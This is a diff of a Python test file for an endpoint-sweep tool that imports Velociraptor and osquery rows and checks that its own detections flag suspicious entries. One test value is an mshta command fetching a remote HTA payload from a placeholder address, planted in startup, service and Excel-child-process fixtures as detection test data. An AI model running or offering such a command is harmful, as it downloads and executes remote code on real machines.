@@ -3,13 +3,20 @@
 from __future__ import annotations
 
 import json
+from dataclasses import asdict, replace
+from datetime import date
 from typing import Any
 
-from honmono.sweep.importers import read
-from honmono.sweep.importers.artefact_rows import artefacts_from_rows
+import pytest
+
+from honmono.sweep.importers import ReportFile, read
+from honmono.sweep.importers.artefact_rows import _gathered, artefacts_of
+from honmono.sweep.importers.naming import Notes
+from honmono.sweep.knowledge import OwnFile, knowledge
 from honmono.sweep.scan import Extent, Outcome
 from tests.sweep.importers.made import file
 
+DAY = date(2026, 11, 1)
 PROCESS = {
     "Fqdn": "TKY-PC014",
     "Pid": 716,
@@ -63,13 +70,16 @@ def lines_of(*rows: dict[str, Any]) -> bytes:
     return b"".join(json.dumps(row).encode() + b"\n" for row in rows)
 
 
+def artefacts_from_rows(one: ReportFile) -> dict[str, dict[str, Any]]:
+    return {pc.host: asdict(artefacts_of(pc)) for pc in _gathered(one, Notes())}
+
+
 def test_rows_of_velociraptor_become_the_parts_of_the_form() -> None:
     found = artefacts_from_rows(
         file(lines_of(PROCESS, *ALWAYS, SERVICE, *SERVICES, STARTUP), "a.json")
     )
 
     one = found["TKY-PC014"]
-    assert one["form"] == "honmono-artefacts-1"
     assert one["host"]["os"] == "windows"
     assert one["processes"][:1] == [
         {
@@ -153,13 +163,56 @@ def test_a_list_instead_of_lines_is_read_too() -> None:
     assert set(artefacts_from_rows(file(data, "a.json"))) == {"TKY-PC014"}
 
 
-def test_to_the_importer_it_is_no_scan() -> None:
-    scans = read(file(lines_of(PROCESS, SNAPSHOT), "a.json")).scans
+def test_our_checks_look_at_them_and_never_call_them_clean() -> None:
+    rows = (PROCESS, *ALWAYS, SERVICE, *SERVICES, SNAPSHOT)
+    scans = read(file(lines_of(*rows), "a.json")).scans
 
-    assert {(s.host, s.product, s.extent, s.outcome) for s in scans} == {
-        ("TKY-PC014", "velociraptor", Extent.STATUS, Outcome.UNKNOWN),
-        ("KNZ-PC01", "osquery", Extent.STATUS, Outcome.UNKNOWN),
+    assert {
+        (s.host, s.product, s.extent, s.outcome, s.unknown["host:collector"])
+        for s in scans
+    } == {
+        ("TKY-PC014", "honmono", Extent.CHECKS, Outcome.PARTIAL, "velociraptor"),
+        ("KNZ-PC01", "honmono", Extent.CHECKS, Outcome.PARTIAL, "osquery"),
     }
+    assert all(scan.could_not for scan in scans)
+
+
+HARM = "mshta http://192.0.2.1/a.hta"
+
+
+@pytest.mark.parametrize(
+    "rows",
+    [
+        [{**STARTUP, "Details": HARM}],
+        [{**SERVICE, "PathName": HARM}],
+        [
+            {**PROCESS, "Pid": 70, "Name": "EXCEL.EXE"},
+            {**PROCESS, "Ppid": 70, "Name": "mshta.exe", "CommandLine": HARM},
+        ],
+    ],
+    ids=["start", "service", "process"],
+)
+def test_what_is_found_in_them_counts(rows: list[dict[str, Any]]) -> None:
+    (scan,) = read(file(lines_of(*rows), "a.json")).scans
+
+    assert (scan.outcome, scan.product) == (Outcome.FOUND, "honmono")
+    assert scan.detections[0].action.endswith(HARM)
+
+
+def test_what_the_operator_knows_is_looked_for_in_them() -> None:
+    own = OwnFile("own.csv", "kind,value,from\nname,a.exe-own.exe,2026-01-01", DAY)
+    row = {**PROCESS, "Name": "A.exe-own.exe"}
+    one = replace(file(lines_of(row), "a.json"), knowledge=knowledge([own]))
+
+    assert read(one).scans[0].outcome is Outcome.FOUND  # also where nobody says when
+    assert read(file(lines_of(row), "a.json")).scans[0].outcome is Outcome.PARTIAL
+
+
+def test_a_file_in_the_start_menu_is_its_own_command() -> None:
+    rows = lines_of({**STARTUP, "OSPath": "C:\\b.lnk", "Details": None})
+    (start,) = artefacts_from_rows(file(rows, "a.json"))["TKY-PC014"]["autoruns"]
+
+    assert start["command_line"] == "C:\\b.lnk"
 
 
 def test_without_a_pc_it_says_what_to_do() -> None:
